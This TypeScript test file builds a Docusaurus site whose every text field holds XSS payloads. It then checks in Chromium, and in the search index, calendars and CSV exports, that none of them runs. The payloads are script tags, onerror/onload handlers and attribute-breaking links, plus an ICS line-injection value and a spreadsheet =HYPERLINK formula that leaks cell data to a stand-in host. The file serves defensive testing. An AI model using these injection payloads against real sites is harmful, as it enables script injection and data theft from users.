/**
 * Payloads are published as text. tests/hostile/payloads/ is a small site (one locale) whose items
 * carry HTML and JavaScript in every text field — titles, summaries, organizers, audiences, bodies,
 * question directives, a structure's access and contact, a concertation's fields, a theme's labels.
 * It is built and served, every page is visited in Chromium, and none of the payloads may run: no
 * dialog, no flag set, no element or attribute they carry. The files the build writes for machines
 * (search index, calendars, data) must hold them as data.
 */
import {spawnSync} from 'node:child_process';
import {createReadStream, existsSync, statSync} from 'node:fs';
import {cp, mkdir, mkdtemp, readdir, readFile, rm} from 'node:fs/promises';
import http from 'node:http';
import type {AddressInfo} from 'node:net';
import path from 'node:path';
import {parse as parseCsv} from 'csv-parse/sync';
import type {Page} from 'playwright-core';
import {parseCalendar} from '../../plugins/docusaurus-plugin-passerelles/src/calendar/__fixtures__/parse-ics';
import {siteDir} from '../setup/site';
import {useBrowserPage, waitForHydration} from './browser';

jest.setTimeout(600_000);

const docusaurusBin = require.resolve('@docusaurus/core/bin/docusaurus.mjs');

/** The titles as the front matter gives them: they must be shown exactly so, as text. */
const titles = {
  vignette: "Vignette <script>window.__pwned='vignette-title'</script><img src=x onerror=alert('vignette-title')>",
  offer: "Formation <script>window.__pwned='offer-title'</script><img src=x onerror=alert('offer-title')>",
  structure: "Structure <script>window.__pwned='structure-title'</script>",
  concertation: "Concertation <script>window.__pwned='concertation-title'</script>",
  theme: "Charge <script>window.__pwned='theme-label'</script><img src=x onerror=alert('theme-label')>",
};
const offerLocation = "Salle <script>window.__pwned='offer-location'</script>\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected";

let buildDir: string;
let server: http.Server;
let baseUrl: string;

/** The build folder as `docusaurus serve` serves it: a folder's index.html, the 404 page otherwise. */
function serveFolder(folder: string): Promise<http.Server> {
  const types: Record<string, string> = {'.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.json': 'application/json', '.svg': 'image/svg+xml', '.ics': 'text/calendar', '.csv': 'text/csv'};
  const created = http.createServer((request, response) => {
    const pathname = decodeURIComponent(new URL(request.url ?? '/', 'http://localhost').pathname);
    let file = path.join(folder, pathname);
    if (!file.startsWith(folder)) file = path.join(folder, '404.html');
    if (existsSync(file) && statSync(file).isDirectory()) file = path.join(file, 'index.html');
    const found = existsSync(file);
    response.writeHead(found ? 200 : 404, {'content-type': types[path.extname(file)] ?? 'application/octet-stream'});
    createReadStream(found ? file : path.join(folder, '404.html')).pipe(response);
  });
  return new Promise((resolve) => created.listen(0, '127.0.0.1', () => resolve(created)));
}

async function builtPages(folder: string, prefix = '/'): Promise<string[]> {
  const entries = await readdir(folder, {withFileTypes: true});
  const pages = entries.some((entry) => entry.isFile() && entry.name === 'index.html') ? [prefix] : [];
  for (const entry of entries.filter((candidate) => candidate.isDirectory() && candidate.name !== 'assets')) {
    pages.push(...(await builtPages(path.join(folder, entry.name), `${prefix}${entry.name}/`)));
  }
  return pages;
}

async function filesEndingWith(folder: string, extension: string): Promise<string[]> {
  const entries = await readdir(folder, {withFileTypes: true, recursive: true});
  return entries.filter((entry) => entry.isFile() && entry.name.endsWith(extension)).map((entry) => path.join(entry.parentPath, entry.name));
}

beforeAll(async () => {
  const parent = path.join(siteDir, 'node_modules', '.cache', 'passerelles-tests');
  await mkdir(parent, {recursive: true});
  const site = await mkdtemp(path.join(parent, 'payloads-'));
  await cp(path.join(siteDir, 'tests', 'hostile', 'payloads'), site, {recursive: true});
  buildDir = path.join(site, 'build');
  const build = spawnSync(process.execPath, [docusaurusBin, 'build', site, '--out-dir', buildDir], {
    cwd: siteDir,
    encoding: 'utf8',
    env: {...process.env, NODE_ENV: 'production', DOCUSAURUS_NO_PERSISTENT_CACHE: 'true'},
  });
  if (build.status !== 0) throw new Error(`the payload site does not build:\n${build.stdout}\n${build.stderr}`);
  server = await serveFolder(buildDir);
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await new Promise((resolve) => server?.close(resolve));
  await rm(path.dirname(buildDir), {recursive: true, force: true});
});

const session = useBrowserPage();

interface PageState {
  pwned: unknown;
  title: string;
  /** Elements with an event handler attribute: tag and attribute. */
  handlers: string[];
  iframes: number;
  /** Script elements whose code a payload wrote. */
  payloadScripts: number;
  /** Images and SVGs a payload created. */
  payloadElements: number;
  text: string;
}

function pageState(page: Page): Promise<PageState> {
  return page.evaluate(() => ({
    pwned: (window as unknown as {__pwned?: unknown}).__pwned,
    title: document.title,
    handlers: Array.from(document.querySelectorAll('*')).flatMap((element) =>
      Array.from(element.attributes).filter((attribute) => /^on/i.test(attribute.name)).map((attribute) => `${element.tagName} ${attribute.name}`),
    ),
    iframes: document.querySelectorAll('iframe').length,
    payloadScripts: Array.from(document.scripts).filter((script) => /pwned|alert\(/.test(script.textContent ?? '')).length,
    payloadElements: document.querySelectorAll('img[src="x"], svg[onload], svg > script').length,
    text: document.body.innerText,
  }));
}

/** The messages of the dialogs the page opens (none expected), each dismissed. */
function watchDialogs(page: Page): string[] {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return dialogs;
}

/** Opens a page, watching for dialogs, and returns what the page looks like once React has taken over. */
async function visit(page: Page, pathname: string, dialogs: string[]): Promise<PageState> {
  await page.goto(`${baseUrl}${pathname}`);
  await waitForHydration(page);
  await page.waitForLoadState('networkidle');
  const state = await pageState(page);
  expect({pathname, pwned: state.pwned, title: state.title, handlers: state.handlers, iframes: state.iframes, payloadScripts: state.payloadScripts, payloadElements: state.payloadElements, dialogs}).toEqual({
    pathname,
    pwned: undefined,
    title: expect.not.stringMatching(/^pwned$/),
    handlers: [],
    iframes: 0,
    payloadScripts: 0,
    payloadElements: 0,
    dialogs: [],
  });
  return state;
}

describe('the pages of a site whose every text field carries a payload', () => {
  it('run none of them, on every page the build wrote, and show them as text where they belong', async () => {
    const {page} = session;
    const dialogs = watchDialogs(page);
    const pages = await builtPages(buildDir);
    // The plugin's pages and the four items are all there to be visited.
    expect(pages).toEqual(
      expect.arrayContaining([
        '/thematiques/',
        '/thematiques/charge-utile/',
        '/offres/',
        '/structures/',
        '/concertations/',
        '/carte/',
        '/donnees/',
        '/recherche/',
        '/contribuer/',
        '/docs/vignettes/charge-utile/',
        '/docs/offres/formation-charge-utile/',
        '/docs/structures/service-charge-utile/',
        '/docs/concertations/bassin-nord-charge-utile/',
      ]),
    );
    const texts = new Map<string, string>();
    for (const pathname of pages) texts.set(pathname, (await visit(page, pathname, dialogs)).text);

    const shows = (pathname: string, ...expected: string[]) => {
      for (const text of expected) expect({pathname, shown: texts.get(pathname)?.includes(text)}).toEqual({pathname, shown: true});
    };
    shows('/docs/vignettes/charge-utile/', titles.vignette, "<script>window.__pwned='body-code'</script>", "<img src=x onerror=alert('body-escaped')>", "<svg onload=alert('body-entity')>", "Que faire de <script>window.__pwned='question'</script>");
    shows('/docs/offres/formation-charge-utile/', titles.offer, "Organisateur <img src=x onerror=alert('offer-organizer')>", "Le jeudi <script>window.__pwned='offer-recurrence'</script>");
    shows('/docs/structures/service-charge-utile/', titles.structure, "Critères <script>window.__pwned='structure-criteria'</script>", "Attente <img src=x onerror=alert('structure-waiting')>");
    shows('/docs/concertations/bassin-nord-charge-utile/', titles.concertation, "Lire <script>window.__pwned='concertation-need'</script> comme du texte.");
    shows('/thematiques/charge-utile/', titles.theme, titles.vignette, titles.offer, titles.structure);
    shows('/offres/', titles.offer);
    shows('/structures/', titles.structure);
    shows('/concertations/', titles.concertation);
    shows('/carte/', titles.offer);
    // The theme no offer answers is a gap: its label, which a spreadsheet would run, is shown as it is written.
    shows('/donnees/', '=HYPERLINK("https://example.org/exfiltre?d="&A1,"Formule")');
  });

  it('keep the links they carry inside their attribute, and refuse none that is safe', async () => {
    const {page} = session;
    await visit(page, '/docs/structures/service-charge-utile/', []);
    const hrefs = await page.locator('main a[href]').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
    expect(hrefs).toEqual(expect.arrayContaining(["https://example.org/\"><script>window.__pwned='structure-website'</script>", "mailto:x\"><svg/onload=alert('structure-email')>@example.org"]));
    await visit(page, '/offres/', []);
    const registration = await page.locator('main a[href^="https://example.org/inscription"]').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(registration).toEqual(["https://example.org/inscription?x=\"><img src=x onerror=alert('offer-registration')>"]);
  });

  it('run none through the search: a payload typed in the box, or in the search page address', async () => {
    const {page} = session;
    const dialogs = watchDialogs(page);
    const typed = "<img src=x onerror=alert('typed')>charge";
    await visit(page, '/thematiques/', dialogs);
    const box = page.getByRole('combobox', {name: 'Rechercher dans Passerelles'});
    await box.fill(typed);
    await page.getByRole('option').first().waitFor();
    expect(await page.getByRole('option').allTextContents()).toEqual(expect.arrayContaining([expect.stringContaining(titles.vignette)]));
    const state = await pageState(page);
    expect({pwned: state.pwned, handlers: state.handlers, payloadElements: state.payloadElements, dialogs}).toEqual({pwned: undefined, handlers: [], payloadElements: 0, dialogs: []});

    const query = new URLSearchParams({q: "pwned <script>window.__pwned='query'</script><img src=x onerror=alert('query')>"});
    const results = await visit(page, `/recherche/?${query.toString()}`, dialogs);
    expect(results.text).toContain(titles.vignette);
    await visit(page, `/offres/?theme=${encodeURIComponent("<img src=x onerror=alert('facet')>")}&kind=%3Cscript%3E`, dialogs);
  });
});

describe('the files the build writes for machines', () => {
  it('hold the payloads as text in the HTML: no page of the build carries one as markup', async () => {
    for (const file of await filesEndingWith(buildDir, '.html')) {
      const html = await readFile(file, 'utf8');
      expect({file: path.relative(buildDir, file), raw: /<script>window\.__pwned|<img src=x onerror|<svg onload|<iframe src=javascript/i.test(html)}).toEqual({file: path.relative(buildDir, file), raw: false});
    }
  });

  it('keep them as JSON strings in the search index and the data', async () => {
    const index = JSON.parse(await readFile(path.join(buildDir, 'passerelles', 'search-index.json'), 'utf8')) as {documents: {title: string}[]};
    expect(index.documents.map((document) => document.title)).toEqual(expect.arrayContaining(Object.values(titles).filter((title) => title !== titles.theme)));
    const data = JSON.parse(await readFile(path.join(buildDir, 'passerelles', 'data.json'), 'utf8')) as {themesByKind: {theme: {label: string}}[]};
    expect(data.themesByKind.map((row) => row.theme.label)).toContain(titles.theme);
  });

  it('write one event per session in the calendars, whatever line breaks a location holds', async () => {
    const withOffer: string[] = [];
    for (const file of await filesEndingWith(buildDir, '.ics')) {
      const {events} = await parseCalendar(await readFile(file, 'utf8'));
      if (events.length > 0) withOffer.push(path.relative(buildDir, file));
      for (const event of events) {
        expect([event.summary, event.location]).toEqual([titles.offer, offerLocation]);
        expect(event.description).toContain("https://example.org/inscription?x=\"><img src=x onerror=alert('offer-registration')>");
      }
    }
    // The offer's own file, all offers, its theme and the theme above it: one event in each, none injected.
    expect(withOffer.sort()).toEqual(['offres.ics', 'offres/formation-charge-utile.ics', 'thematiques/charge-utile.ics', 'thematiques/migration.ics']);
  });

  it('write a label a spreadsheet would run as a formula as text in the CSV files', async () => {
    const csv = parseCsv(await readFile(path.join(buildDir, 'passerelles', 'data', 'themes-by-kind.csv'), 'utf8'), {bom: true, columns: true}) as Record<string, string>[];
    const labels = csv.map((row) => row.theme_label);
    expect(labels).toContain('\'=HYPERLINK("https://example.org/exfiltre?d="&A1,"Formule")');
    expect(labels).toContain(titles.theme);
    expect(labels.filter((label) => /^[=+\-@]/.test(label ?? ''))).toEqual([]);
  });
});
